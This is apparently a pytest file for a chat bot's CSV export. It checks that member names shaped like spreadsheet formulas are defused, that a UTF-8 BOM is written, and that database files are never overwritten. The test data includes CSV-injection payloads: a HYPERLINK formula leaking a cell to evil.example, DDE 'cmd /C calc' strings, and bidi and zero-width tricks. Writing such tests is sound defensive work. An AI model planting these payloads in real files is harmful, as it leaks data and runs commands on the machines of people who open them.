"""`groupbot export` writes CSV a spreadsheet opens safely: member-chosen names that look like
formulas stay text (OWASP's CSV-injection rule), and Chinese survives Excel (UTF-8 BOM)."""

from __future__ import annotations

import asyncio
import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from harness import BOT_YAML, Harness, write_config

from bot import csvfile
from bot.cli import main

HOSTILE = {
    "m1": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "m2": "+cmd|' /C calc'!A0",
    "m3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "m4": "-2+3+cmd|' /C calc'!A0",
    "m5": "\t=1+1",
    "m6": "\r=1+1",
    "m7": "张三",
}


async def _members_joined(root: Path, tmp_path: Path, storage: Path | str) -> Path | str:
    async with Harness(root, tmp_path, db=storage) as h:
        h.world.contacts.update(HOSTILE)
        await h.join("r1", *HOSTILE)
        for member in HOSTILE:
            await h.say("r1", member, "hi")
        await h.advance("1s")
    return h.db


def test_export_defuses_formula_names_and_writes_a_bom(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, storage: Path | str) -> None:
    root = write_config(tmp_path / "config", BOT_YAML, {"recruitment": "handlers: []\n"})
    db = asyncio.run(_members_joined(root, tmp_path, storage))
    out = tmp_path / "members.csv"
    code = main(["export", "--what", "members", "--out", str(out), "--config", str(root),
                 "--db", str(db)])
    assert code == 0, capsys.readouterr().err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "张三".encode() in raw
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = {row["member"]: row for row in csv.DictReader(file)}
    assert {m: rows[m]["name"] for m in HOSTILE} == {
        m: ("'" + name if m != "m7" else name) for m, name in HOSTILE.items()} | {
        "m6": "' =1+1"}  # the carriage return is a space
    assert rows["m1"]["messages"] == "1"


@pytest.mark.parametrize("name, shown", [
    ("bob\n=1+2", "bob =1+2"),
    ("\n=1+2", "' =1+2"),
    ("\u200b=1+2", "'=1+2"),  # a zero-width space before the formula: still defused
    ("\u202eevil\u202c", "evil"),  # a right-to-left override and its end
    ("a\u2028b\u2029c\r\nd", "a b c  d"),
    ("\u2066@SUM(1)\u2069", "'@SUM(1)"),
    ("\u3000-cmd", "'\u3000-cmd"),  # an ideographic space is a space
    ("👨\u200d👩\u200d👧 林\x00", "👨\u200d👩\u200d👧 林"),  # the joiner holds the emoji
    ("a\tb", "a\tb"),
    ("\t=1", "'\t=1"),
])
def test_text_is_one_visible_line_and_never_starts_a_formula(name: str, shown: str) -> None:
    assert csvfile.cell(name) == shown
    data = csvfile.to_bytes(("name",), [(name,)]).decode("utf-8-sig")
    assert data.splitlines() == ['"name"', f'"{shown}"']


def test_numbers_stay_numbers_and_every_cell_is_quoted() -> None:
    data = csvfile.to_bytes(("name", "points", "note"), [("-bob", -5, None), ('a "b"', 1.5, 0)])
    assert data.decode("utf-8-sig").splitlines() == [
        '"name","points","note"', '"\'-bob","-5",""', '"a ""b""","1.5","0"']


def test_export_never_overwrites_the_database_nor_any_sqlite_file(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    root = write_config(tmp_path / "config", BOT_YAML, {"recruitment": "handlers: []\n"})
    db = Path(asyncio.run(_members_joined(root, tmp_path, tmp_path / "bot.db")))
    other = tmp_path / "other.db"
    other.write_bytes(db.read_bytes())
    link = tmp_path / "link.csv"
    link.symlink_to(db)
    before = db.read_bytes()
    for out in (db, tmp_path / "." / "bot.db", db.with_name("bot.db-wal"),
                db.with_name("bot.db-journal"), link, other):
        code = main(["export", "--what", "members", "--out", str(out), "--config", str(root),
                     "--db", str(db)])
        err = capsys.readouterr().err
        assert code == 2, out
        assert "never overwrites" in err and str(out) in err
    assert db.read_bytes() == before and other.read_bytes() == before
    assert not db.with_name("bot.db-journal").exists()
    # the same export to a CSV file works, and again over that file
    for _ in range(2):
        assert main(["export", "--what", "members", "--out", str(tmp_path / "m.csv"),
                     "--config", str(root), "--db", str(db)]) == 0
    assert (tmp_path / "m.csv").read_text(encoding="utf-8-sig").startswith('"group"')


def test_a_failed_export_leaves_the_old_file_and_no_part_of_the_new(tmp_path: Path) -> None:
    out = tmp_path / "members.csv"
    out.write_text("the last export\n")

    def rows() -> Iterator[tuple[object, ...]]:
        yield ("bob", 1)
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        csvfile.write_file(out, ("name", "n"), rows())
    assert out.read_text() == "the last export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["members.csv"]
    assert csvfile.write_file(out, ("name", "n"), [("bob", 1)]) == 1
    assert out.read_text(encoding="utf-8-sig").splitlines() == ['"name","n"', '"bob","1"']


def test_an_export_is_readable_as_any_new_file_and_keeps_the_mode_of_the_one_it_replaces(
        tmp_path: Path) -> None:
    umask = os.umask(0o022)
    try:
        new = tmp_path / "new.csv"
        csvfile.write_file(new, ("name",), [("bob",)])
        assert stat.S_IMODE(new.stat().st_mode) == 0o644
        kept = tmp_path / "kept.csv"
        kept.write_text("before\n")
        kept.chmod(0o640)
        csvfile.write_file(kept, ("name",), [("bob",)])
        assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    finally:
        os.umask(umask)
